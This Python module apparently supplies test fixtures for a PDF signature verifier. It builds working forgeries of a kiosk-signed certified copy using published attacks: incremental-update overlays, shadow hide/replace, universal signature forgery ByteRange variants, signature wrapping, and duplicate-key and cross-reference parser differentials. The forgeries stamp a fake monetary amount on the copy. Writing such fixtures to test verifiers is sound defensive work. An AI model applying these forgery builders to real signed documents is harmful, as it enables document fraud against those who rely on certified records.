"""Forgeries of a genuine certified copy, built the way the published attacks build them.

Signature wrapping and universal signature forgery follow Mladenov et al., "1 Trillion Dollar Refund"
(CCS 2019), incremental saving attacks the same paper, shadow attacks Mahzoun et al. (NDSS 2021), all
documented on pdf-insecurity.org. Every builder takes the genuine PDF's bytes and returns the forgery's.
"""

from __future__ import annotations

import io
import re
import zlib

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

FORGED_TEXT = b"BT /Helv 48 Tf 1 0 0 rg 80 500 Td (FORGED: 999 000 000 VND) Tj ET"


def _serialise(obj: generic.PdfObject) -> bytes:
    out = io.BytesIO()
    obj.write_to_stream(out, None)
    return out.getvalue()


def update(pdf: bytes, change) -> bytes:
    """An incremental update made by ``change(writer)``, appended to ``pdf``."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def page(writer, index: int) -> generic.DictionaryObject:
    return writer.root["/Pages"]["/Kids"][index].get_object()


def _helvetica(writer) -> generic.DictionaryObject:
    return generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Font"),
            generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
            generic.NameObject("/BaseFont"): generic.NameObject("/Helvetica"),
        }
    )


def overlay_content(writer, index: int = 0) -> None:
    """A content stream appended to a page, drawing new text over its image."""
    target = page(writer, index)
    stream = generic.StreamObject(stream_data=FORGED_TEXT)
    ref = writer.add_object(stream)
    contents = target["/Contents"]
    array = generic.ArrayObject(
        contents if isinstance(contents, generic.ArrayObject) else [target.raw_get("/Contents")]
    )
    array.append(ref)
    target[generic.NameObject("/Contents")] = array
    resources = target["/Resources"]
    old_fonts = resources["/Font"] if "/Font" in resources else generic.DictionaryObject()
    fonts = generic.DictionaryObject({k: old_fonts.raw_get(k) for k in old_fonts})
    fonts[generic.NameObject("/Helv")] = writer.add_object(_helvetica(writer))
    resources[generic.NameObject("/Font")] = fonts
    writer.update_container(target)
    writer.update_container(resources)


def _annotation(writer, subtype: str, index: int = 0) -> None:
    target = page(writer, index)
    appearance = generic.StreamObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/XObject"),
            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
            generic.NameObject("/BBox"): generic.ArrayObject(
                [generic.NumberObject(v) for v in (0, 0, 400, 80)]
            ),
            generic.NameObject("/Resources"): generic.DictionaryObject(
                {
                    generic.NameObject("/Font"): generic.DictionaryObject(
                        {generic.NameObject("/Helv"): writer.add_object(_helvetica(writer))}
                    )
                }
            ),
        },
        stream_data=b"1 1 0.6 rg 0 0 400 80 re f " + FORGED_TEXT.replace(b"80 500", b"10 20"),
    )
    annot = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject(subtype),
            generic.NameObject("/Rect"): generic.ArrayObject(
                [generic.NumberObject(v) for v in (60, 480, 460, 560)]
            ),
            generic.NameObject("/Contents"): generic.TextStringObject("FORGED"),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/AP"): generic.DictionaryObject(
                {generic.NameObject("/N"): writer.add_object(appearance)}
            ),
        }
    )
    if subtype == "/FreeText":
        annot[generic.NameObject("/DA")] = generic.TextStringObject("/Helv 24 Tf 1 0 0 rg")
    ref = writer.add_object(annot)
    annots = target.get("/Annots")
    array = generic.ArrayObject(list(annots) if annots is not None else [])
    array.append(ref)
    target[generic.NameObject("/Annots")] = array
    writer.update_container(target)


def add_annotation(writer) -> None:
    _annotation(writer, "/FreeText")


def add_stamp(writer) -> None:
    _annotation(writer, "/Stamp")


def swap_image(writer, jpeg: bytes) -> None:
    """The page image replaced by another of the same size, under the same name (an image swap in place)."""
    xobjects = page(writer, 0)["/Resources"]["/XObject"]
    name = next(k for k, v in xobjects.items() if v.get_object().get("/Subtype") == "/Image")
    old = xobjects[name].get_object()
    new = generic.StreamObject(
        {k: v for k, v in old.items() if k not in ("/Length", "/Filter", "/DecodeParms")}, encoded_data=jpeg
    )
    new[generic.NameObject("/Filter")] = generic.NameObject("/DCTDecode")
    ref = xobjects.raw_get(name)
    writer.objects[(ref.generation, ref.idnum)] = new  # the same object number: swapped in place


def redraw_signature_box(writer) -> None:
    """The kiosk's visible signature box given a new appearance (signature widgets are not part of the
    page digest: they are judged as signatures, and this revision has none)."""
    form = writer.root["/AcroForm"]
    field = next(f.get_object() for f in form["/Fields"] if f.get_object().get("/T") == "KioskSeal")
    widget = field if "/Rect" in field else field["/Kids"][0].get_object()
    appearance = generic.StreamObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/XObject"),
            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
            generic.NameObject("/BBox"): generic.ArrayObject(
                [generic.NumberObject(v) for v in (0, 0, 170, 96)]
            ),
        },
        stream_data=b"1 0 0 rg 0 0 170 96 re f",
    )
    widget[generic.NameObject("/AP")] = generic.DictionaryObject(
        {generic.NameObject("/N"): writer.add_object(appearance)}
    )
    writer.update_container(widget)


def add_page(writer) -> None:
    pages = writer.root["/Pages"]
    pages["/Kids"].append(pages["/Kids"][0])
    pages[generic.NameObject("/Count")] = generic.NumberObject(len(pages["/Kids"]))
    writer.update_container(pages)


def remove_page(writer) -> None:
    pages = writer.root["/Pages"]
    del pages["/Kids"][0]
    pages[generic.NameObject("/Count")] = generic.NumberObject(len(pages["/Kids"]))
    writer.update_container(pages)


def change_info(writer) -> None:
    info_ref = writer.trailer.raw_get("/Info")
    info = info_ref.get_object()
    info[generic.NameObject("/Title")] = generic.TextStringObject("Bản sao chứng thực HN001-999999-X")
    writer.mark_update(info_ref)


def raw_update(pdf: bytes, objects: dict[int, bytes]) -> bytes:
    """An incremental update written by hand (no library to tidy it up): ``objects`` are the new bodies
    of object numbers, the trailer is the last one with /Prev pointing at it."""
    prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    trailer = pdf[pdf.rindex(b"trailer") : pdf.rindex(b"startxref")]
    body = bytearray(b"\n")
    offsets = {}
    for number, text in sorted(objects.items()):
        offsets[number] = len(pdf) + len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    xref_at = len(pdf) + len(body)
    body += b"xref\n"
    for number, offset in offsets.items():
        body += b"%d 1\n%010d 00000 n \n" % (number, offset)
    trailer = re.sub(rb"/Prev \d+", b"", trailer)
    body += trailer.rstrip().rstrip(b">") + b" /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (prev, xref_at)
    return pdf + bytes(body)


def change_xmp(pdf: bytes) -> bytes:
    """The XMP metadata stream overridden (same object number) with a new title, written by hand."""
    xmp = (
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
        b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">'
        b"Forged title</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>"
        b'<?xpacket end="r"?>'
    )
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    number = reader.root.raw_get("/Metadata").idnum
    body = b"<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n%s\nendstream" % (len(xmp), xmp)
    return raw_update(pdf, {number: body})


# --- shadow attacks (NDSS 2021): the update points at objects that the signed revision already holds --


def shadow_hide(writer) -> None:
    """Hide: the page's content stream is overridden (same object number) by one that draws only the
    image, hiding the watermark, the footer and the certification statement."""
    target = page(writer, -1)
    contents = target.raw_get("/Contents")
    ref = contents if isinstance(contents, generic.IndirectObject) else contents[0]
    image_name = next(
        k for k, v in target["/Resources"]["/XObject"].items() if v.get_object().get("/Subtype") == "/Image"
    )
    box = target["/MediaBox"]
    data = f"q {float(box[2])} 0 0 {float(box[3])} 0 0 cm {image_name} Do Q".encode()
    writer.objects[(ref.generation, ref.idnum)] = generic.StreamObject(stream_data=data)


def shadow_replace(writer) -> None:
    """Replace: page 1's image name is pointed at page 2's image, an object that was signed too."""
    first, second = page(writer, 0), page(writer, 1)

    def image_of(p):
        x = p["/Resources"]["/XObject"]
        name = next(k for k, v in x.items() if v.get_object().get("/Subtype") == "/Image")
        return x, name

    x1, n1 = image_of(first)
    x2, n2 = image_of(second)
    x1[n1] = x2.raw_get(n2)
    writer.update_container(x1)


def shadow_replace_font(writer) -> None:
    """Replace via fonts: the embedded font program (same object number) swapped, so that the same glyph
    codes draw other letters (the text layer and the footer would read differently)."""
    fonts = page(writer, 0)["/Resources"]["/Font"].get_object()
    for name in fonts:
        font = fonts[name].get_object()
        descendants = font.get("/DescendantFonts")
        target = descendants.get_object()[0].get_object() if descendants is not None else font
        descriptor = target.get("/FontDescriptor")
        descriptor = descriptor.get_object() if descriptor is not None else None
        if descriptor is None:
            continue
        for key in ("/FontFile2", "/FontFile", "/FontFile3"):
            if key in descriptor:
                ref = descriptor.raw_get(key)
                old = ref.get_object()
                data = bytearray(old.data)
                data[len(data) // 2] ^= 0xFF
                writer.objects[(ref.generation, ref.idnum)] = generic.StreamObject(stream_data=bytes(data))
                return
    raise AssertionError("no embedded font on page 1")


def shadow_hide_and_replace(writer) -> None:
    """Hide-and-replace: a whole new page tree over signed objects only (the pages in another order,
    page 2 shown twice), as a shadow document that the signed revision carried unseen."""
    pages = writer.root["/Pages"]
    kids = list(pages["/Kids"])
    pages[generic.NameObject("/Kids")] = generic.ArrayObject([kids[1], kids[1]])
    writer.update_container(pages)


# --- universal signature forgery (CCS 2019) ------------------------------------------------------------


def _replace_sig_value(pdf: bytes, edit) -> bytes:
    """An update that gives the kiosk's signature field a new value dictionary, edited by ``edit(dict)``,
    and draws new text on page 1 (what the forger wants the signature to vouch for)."""

    def change(writer):
        form = writer.root["/AcroForm"]
        field = next(f.get_object() for f in form["/Fields"] if f.get_object().get("/T") == "KioskSeal")
        old = field["/V"]
        value = generic.DictionaryObject({k: old.raw_get(k) for k in old})
        edit(value)
        field[generic.NameObject("/V")] = writer.add_object(value)
        writer.update_container(field)
        overlay_content(writer, 0)

    return update(pdf, change)


def usf(pdf: bytes, variant: str) -> bytes:
    """One universal signature forgery variant (by name)."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    _a, b, c, d = (int(v) for v in reader.embedded_signatures[0].sig_object["/ByteRange"])
    n = generic.NameObject
    nums = lambda *v: generic.ArrayObject([generic.NumberObject(x) for x in v])  # noqa: E731
    edits = {
        "no_byterange": lambda v: v.pop("/ByteRange"),
        "byterange_null": lambda v: v.__setitem__(n("/ByteRange"), generic.NullObject()),
        "byterange_zeros": lambda v: v.__setitem__(n("/ByteRange"), nums(0, 0, 0, 0)),
        "byterange_start": lambda v: v.__setitem__(n("/ByteRange"), nums(10, b - 10, c, d)),
        "byterange_overlap": lambda v: v.__setitem__(n("/ByteRange"), nums(0, c, b, d)),
        "byterange_past_eof": lambda v: v.__setitem__(n("/ByteRange"), nums(0, b, c, d + 10_000_000)),
        "byterange_gap": lambda v: v.__setitem__(n("/ByteRange"), nums(0, b - 20, c, d)),
        "no_contents": lambda v: v.pop("/Contents"),
        "contents_null": lambda v: v.__setitem__(n("/Contents"), generic.NullObject()),
        "contents_empty": lambda v: v.__setitem__(n("/Contents"), generic.ByteStringObject(b"")),
        "contents_zeros": lambda v: v.__setitem__(n("/Contents"), generic.ByteStringObject(bytes(4096))),
    }
    if variant == "contents_odd":
        # One hex digit of the signature value turned into a space: the gap is still the hex string.
        data = bytearray(pdf)
        data[b + 1] = ord(" ")
        return bytes(data)
    return _replace_sig_value(pdf, edits[variant])


# --- signature wrapping (CCS 2019) ---------------------------------------------------------------------


def signature_wrapping(pdf: bytes) -> bytes:
    """Keep both signed byte ranges byte for byte and widen the gap between them. Inside the gap: a copy of
    the signature dictionary with a moved /ByteRange, a page whose content draws new text over the image,
    and a new xref table at the very offset that the signed ``startxref`` names."""
    match = re.search(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]", pdf)
    assert match
    b, c, d = (int(g) for g in match.groups())
    startxref = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    assert c < startxref < c + d, "the signed startxref points into the second signed range"
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    sig_ref = reader.root["/AcroForm"]["/Fields"][0].get_object().raw_get("/V")
    sig_start = pdf.rindex(f"\n{sig_ref.idnum} 0 obj".encode(), 0, b) + 1
    sig_end = pdf.index(b"endobj", c) + len(b"endobj")
    original_xref = pdf[startxref : pdf.index(b"trailer", startxref)]
    trailer = pdf[pdf.index(b"trailer", startxref) : pdf.index(b"startxref", startxref)]
    size = int(re.search(rb"/Size (\d+)", trailer).group(1))
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    page_obj = page_ref.get_object()

    delta = 1 << 16  # how much wider the gap becomes
    new_c = c + delta
    # Offsets of the signed revision's objects as listed by its xref, moved when they lie after the gap.
    offsets: dict[int, int] = {}
    lines = original_xref.split(b"\n")[1:]
    current = 0
    for line in lines:
        parts = line.split()
        if len(parts) == 2:
            current = int(parts[0])
        elif len(parts) == 3:
            if parts[2] == b"n":
                offset = int(parts[0])
                offsets[current] = offset + delta if offset >= c else offset
            current += 1

    gap_start = c  # the inserted bytes start where the original gap ended
    inserted = bytearray()
    pad_to = startxref - gap_start
    inserted += b"\n" * (pad_to - len(inserted))  # the new xref must sit at the signed startxref offset
    objects: list[tuple[int, bytes]] = []
    copied = pdf[sig_start:sig_end]
    copied = re.sub(rb"/ByteRange \[[^\]]*\]", f"/ByteRange [0 {b} {new_c} {d}]".encode(), copied, count=1)
    objects.append((sig_ref.idnum, copied))
    content_num = size
    objects.append(
        (
            content_num,
            b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj"
            % (content_num, len(FORGED_TEXT), FORGED_TEXT),
        )
    )
    font_num = size + 1
    objects.append(
        (font_num, b"%d 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>\nendobj" % font_num)
    )
    new_page = generic.DictionaryObject({k: page_obj.raw_get(k) for k in page_obj})
    contents = page_obj.raw_get("/Contents")
    new_page[generic.NameObject("/Contents")] = generic.ArrayObject(
        [
            *(contents if isinstance(contents, generic.ArrayObject) else [contents]),
            generic.IndirectObject(content_num, 0, None),
        ]
    )
    old_resources = page_obj["/Resources"]
    resources = generic.DictionaryObject({k: old_resources.raw_get(k) for k in old_resources})
    old_fonts = resources["/Font"].get_object() if "/Font" in resources else {}
    fonts = generic.DictionaryObject({k: old_fonts.raw_get(k) for k in old_fonts})
    fonts[generic.NameObject("/Helv")] = generic.IndirectObject(font_num, 0, None)
    resources[generic.NameObject("/Font")] = fonts
    new_page[generic.NameObject("/Resources")] = resources
    objects.append((page_ref.idnum, b"%d 0 obj\n%s\nendobj" % (page_ref.idnum, _serialise(new_page))))

    xref_len_guess = 40 + 20 * (len(offsets) + len(objects) + 4) + len(trailer) + 64
    body_offset = startxref + xref_len_guess
    body = bytearray()
    for number, text in objects:
        offsets[number] = body_offset + len(body)
        body += text + b"\n"
    xref = bytearray(b"xref\n0 1\n0000000000 65535 f \n")
    for number in sorted(offsets):
        xref += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    new_trailer = re.sub(rb"/Size \d+", b"/Size %d" % (size + 2), trailer)
    xref += new_trailer
    assert len(xref) <= xref_len_guess
    xref += b" " * (xref_len_guess - len(xref))
    inserted += xref + body
    assert len(inserted) < delta
    inserted += b" " * (delta - len(inserted))
    forged = pdf[:c] + bytes(inserted) + pdf[c:]
    assert forged[:b] == pdf[:b] and forged[new_c : new_c + d] == pdf[c : c + d]
    return forged


def duplicate_sig_dict(pdf: bytes) -> bytes:
    """An update adding a second signature field whose value is a byte-for-byte copy of the kiosk's."""

    def change(writer):
        form = writer.root["/AcroForm"]
        original = next(f.get_object() for f in form["/Fields"] if f.get_object().get("/T") == "KioskSeal")
        old = original["/V"]
        copy = generic.DictionaryObject({k: old.raw_get(k) for k in old})
        field = generic.DictionaryObject(
            {
                generic.NameObject("/FT"): generic.NameObject("/Sig"),
                generic.NameObject("/T"): generic.TextStringObject("KioskSeal2"),
                generic.NameObject("/V"): writer.add_object(copy),
            }
        )
        form["/Fields"].append(writer.add_object(field))
        writer.update_container(form)

    return update(pdf, change)


def deflate(data: bytes) -> bytes:
    return zlib.compress(data)


# --- parser differentials and cross-reference tricks (pdf-insecurity.org, "PDF differential") -----------

RED_PAGE = b"1 0 0 rg 0 0 600 900 re f"  # what a forged page draws: all red, easy to see in a rendering


def red_stream() -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(RED_PAGE), RED_PAGE)


def _last_trailer(pdf: bytes) -> bytes:
    trailer = pdf[pdf.rindex(b"trailer") : pdf.rindex(b"startxref")]
    return re.sub(rb"/Prev \d+", b"", trailer).rstrip().rstrip(b">")


def startxrefs(pdf: bytes) -> list[int]:
    return [int(x) for x in re.findall(rb"startxref\s+(\d+)", pdf)]


def raw_xref_update(
    pdf: bytes,
    objects: dict[int, bytes],
    *,
    listed: bool = True,
    prev: int | None = None,
    extra_trailer: bytes = b"",
    startxref_shift: int = 0,
    copy_xref_at: int | None = None,
    generation: int = 0,
) -> bytes:
    """An update written by hand. ``listed`` False leaves the new objects out of its xref (hidden objects);
    ``prev`` sets /Prev (default: the last xref); ``startxref_shift`` makes startxref miss the xref by that
    many bytes; ``copy_xref_at`` repeats the entries of the xref table at that offset."""
    prev = startxrefs(pdf)[-1] if prev is None else prev
    offsets: dict[int, int] = {}
    if copy_xref_at is not None:
        current = 0
        for line in pdf[copy_xref_at : pdf.index(b"trailer", copy_xref_at)].split(b"\n")[1:]:
            parts = line.split()
            if len(parts) == 2:
                current = int(parts[0])
            elif len(parts) == 3:
                if parts[2] == b"n":
                    offsets[current] = int(parts[0])
                current += 1
    body = bytearray(b"\n")
    for number, text in sorted(objects.items()):
        if listed:
            offsets[number] = len(pdf) + len(body)
        body += b"%d %d obj\n%s\nendobj\n" % (number, generation, text)
    xref_at = len(pdf) + len(body)
    body += b"xref\n" if offsets else b"xref\n0 0\n"
    for number in sorted(offsets):
        gen = generation if number in objects else 0
        body += b"%d 1\n%010d %05d n \n" % (number, offsets[number], gen)
    body += _last_trailer(pdf) + extra_trailer + b" /Prev %d >>\n" % prev
    body += b"startxref\n%d\n%%%%EOF\n" % (xref_at + startxref_shift)
    return pdf + bytes(body)


def xref_stream_update(
    pdf: bytes, objects: dict[int, bytes], *, in_object_stream: bool = True, hybrid: bool = False
) -> bytes:
    """An update with a cross-reference stream (PDF 1.5), its new objects compressed in an object stream or
    written plainly; ``hybrid`` adds a classic xref table whose trailer names the stream by /XRefStm (a
    hybrid-reference file, as readers for PDF 1.4 and 1.5 each see a part of it)."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    trailer = reader.trailer_view
    root, info = trailer.raw_get("/Root"), trailer.raw_get("/Info")
    ids = trailer["/ID"]
    size = int(trailer["/Size"])
    prev = startxrefs(pdf)[-1]
    body = bytearray(b"\n")
    entries: dict[int, tuple[int, int, int]] = {}
    objstm, xref_number = size, size + 1
    if in_object_stream:
        header, payload = b"", b""
        for index, (number, text) in enumerate(sorted(objects.items())):
            header += b"%d %d " % (number, len(payload))
            payload += text + b"\n"
            entries[number] = (2, objstm, index)
        data = zlib.compress(header + payload)
        entries[objstm] = (1, len(pdf) + len(body), 0)
        body += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
            objstm,
            len(objects),
            len(header),
            len(data),
        )
        body += data + b"\nendstream\nendobj\n"
    else:
        for number, text in sorted(objects.items()):
            entries[number] = (1, len(pdf) + len(body), 0)
            body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    xref_at = len(pdf) + len(body)
    entries[xref_number] = (1, xref_at, 0)
    rows = b"".join(
        bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big")
        for _n, (kind, a, b) in sorted(entries.items())
    )
    index = b" ".join(b"%d 1" % number for number in sorted(entries))
    common = b"/Root %d 0 R /Info %d 0 R /ID [<%s> <%s>] /Size %d" % (
        root.idnum,
        info.idnum,
        ids[0].original_bytes.hex().encode(),
        ids[1].original_bytes.hex().encode(),
        size + 2,
    )
    prev_entry = b"" if hybrid else b" /Prev %d" % prev
    body += b"%d 0 obj\n<< /Type /XRef /W [1 4 2] /Index [%s] %s%s /Length %d >>\nstream\n" % (
        xref_number,
        index,
        common,
        prev_entry,
        len(rows),
    )
    body += rows + b"\nendstream\nendobj\n"
    if hybrid:
        table_at = len(pdf) + len(body)
        body += b"xref\n0 0\ntrailer\n<< %s /Prev %d /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n" % (
            common,
            prev,
            xref_at,
            table_at,
        )
    else:
        body += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return pdf + bytes(body)


def object_text(pdf: bytes, number: int) -> bytes:
    """The body of object ``number`` as the signed file writes it (between "N 0 obj" and "endobj")."""
    start = pdf.index(b"\n%d 0 obj" % number) + 1
    return pdf[start : pdf.index(b"endobj", start)].split(b"obj", 1)[1].strip()


def page_ref(pdf: bytes, index: int) -> generic.IndirectObject:
    return PdfFileReader(io.BytesIO(pdf), strict=False).root["/Pages"]["/Kids"].raw_get(index)


def second_root(pdf: bytes) -> bytes:
    """A second /Root in the update's trailer (a key written twice), naming a catalog whose one page draws
    the forged content: pyHanko keeps the first /Root, poppler the last."""
    page = page_ref(pdf, 0).get_object()
    size = int(PdfFileReader(io.BytesIO(pdf), strict=False).trailer_view["/Size"])
    content, new_page, pages, catalog = size, size + 1, size + 2, size + 3
    forged = generic.DictionaryObject({k: page.raw_get(k) for k in page if k != "/Parent"})
    forged[generic.NameObject("/Contents")] = generic.IndirectObject(content, 0, None)
    forged[generic.NameObject("/Parent")] = generic.IndirectObject(pages, 0, None)
    objects = {
        content: red_stream(),
        new_page: _serialise(forged),
        pages: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % new_page,
        catalog: b"<< /Type /Catalog /Pages %d 0 R >>" % pages,
    }
    return raw_xref_update(pdf, objects, extra_trailer=b" /Root %d 0 R /Size %d" % (catalog, size + 4))


def duplicate_contents_key(pdf: bytes) -> bytes:
    """Page 1 rewritten with a second /Contents key after its own (the same object, the same first value):
    pyHanko reads the page unchanged, poppler draws the second content stream."""
    ref = page_ref(pdf, 0)
    text = object_text(pdf, ref.idnum)
    contents = (
        PdfFileReader(io.BytesIO(pdf), strict=False)
        .root["/Pages"]["/Kids"][0]
        .get_object()
        .raw_get("/Contents")
    )
    size = int(PdfFileReader(io.BytesIO(pdf), strict=False).trailer_view["/Size"])
    own = b"/Contents %d 0 R" % contents.idnum
    assert own in text
    doubled = text.replace(own, own + b" /Contents %d 0 R" % size)
    return raw_xref_update(
        pdf, {ref.idnum: doubled, size: red_stream()}, extra_trailer=b" /Size %d" % (size + 1)
    )


def visible_signature_field(writer, name: str, index: int = 0) -> None:
    """A new signature field whose widget's appearance draws the forged text over page ``index`` (the
    Evil Annotation / Sneaky Signature attacks of Mainka et al., S&P 2021, on certified documents)."""
    from pyhanko.sign import fields

    fields.append_signature_field(writer, fields.SigFieldSpec(name, on_page=index, box=(60, 480, 460, 560)))
    appearance = generic.StreamObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/XObject"),
            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
            generic.NameObject("/BBox"): generic.ArrayObject(
                [generic.NumberObject(v) for v in (0, 0, 400, 80)]
            ),
            generic.NameObject("/Resources"): generic.DictionaryObject(
                {
                    generic.NameObject("/Font"): generic.DictionaryObject(
                        {generic.NameObject("/Helv"): writer.add_object(_helvetica(writer))}
                    )
                }
            ),
        },
        stream_data=b"1 1 0.6 rg 0 0 400 80 re f " + FORGED_TEXT.replace(b"80 500", b"10 20"),
    )
    for ref in writer.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == name:
            field[generic.NameObject("/AP")] = generic.DictionaryObject(
                {generic.NameObject("/N"): writer.add_object(appearance)}
            )
            writer.update_container(field)


def override_signature_appearance(writer) -> None:
    """The kiosk's signature widget's appearance stream overridden in place (same object number)."""
    form = writer.root["/AcroForm"]
    field = next(f.get_object() for f in form["/Fields"] if f.get_object().get("/T") == "KioskSeal")
    ref = field["/AP"].raw_get("/N")
    writer.objects[(ref.generation, ref.idnum)] = generic.StreamObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/XObject"),
            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
            generic.NameObject("/BBox"): generic.ArrayObject(
                [generic.NumberObject(v) for v in (0, 0, 170, 96)]
            ),
        },
        stream_data=b"1 0 0 rg 0 0 170 96 re f",
    )
